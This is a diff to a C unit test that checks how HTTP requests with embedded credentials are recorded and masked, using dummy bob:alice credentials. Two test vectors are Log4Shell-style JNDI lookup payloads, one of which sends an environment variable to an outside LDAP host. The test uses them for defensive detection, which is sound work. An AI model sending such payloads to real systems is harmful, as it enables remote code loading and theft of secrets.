@@ -244,6 +244,12 @@ static void credentials_are_recorded_and_blanked(void **state)
 		  NULL, "Digest *" },
 		{ "GET http://bob:alice@a.example/ HTTP/1.1\r\n\r\n", "url", "", "alice", "GET http://bob:*****@a.example/" },
 		{ "CONNECT a:443 HTTP/1.1\r\nProxy-Authorization: Basic Ym9iOmFsa", NULL, NULL, NULL, "Basic *********" },
+		{ "GET http://a/ HTTP/1.0\r\n Proxy-Authorization: Basic Ym9iOmFsaWNl\r\n\r\n", "http_basic", "bob", "alice",
+		  "\r\n Proxy-Authorization: Basic ************\r\n" },
+		{ "GET http://bob:alice@a/ HTTP/1.1\r\nHost: bob:alice@a\r\nReferer: https://bob:alice@b/\r\n\r\n", "url", "", "alice",
+		  "Host: bob:*****@a\r\nReferer: https://bob:*****@b/\r\n" },
+		{ "GET http://a/ HTTP/1.1\r\nHost: a:80\r\nFrom: a:b, c@d\r\n\r\n", NULL, NULL, NULL, "Host: a:80\r\nFrom: a:b, c@d" },
+		{ "GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://${env:KEY}@198.51.100.1/a}\r\n\r\n", NULL, NULL, NULL, "${env:KEY}@" },
 		{ "GET / HTTP/1.1\r\nAuthorization: Bearer ${jndi:ldap://198.51.100.1/a}\r\n\r\n", NULL, NULL, NULL, "${jndi:" },
 	};
 
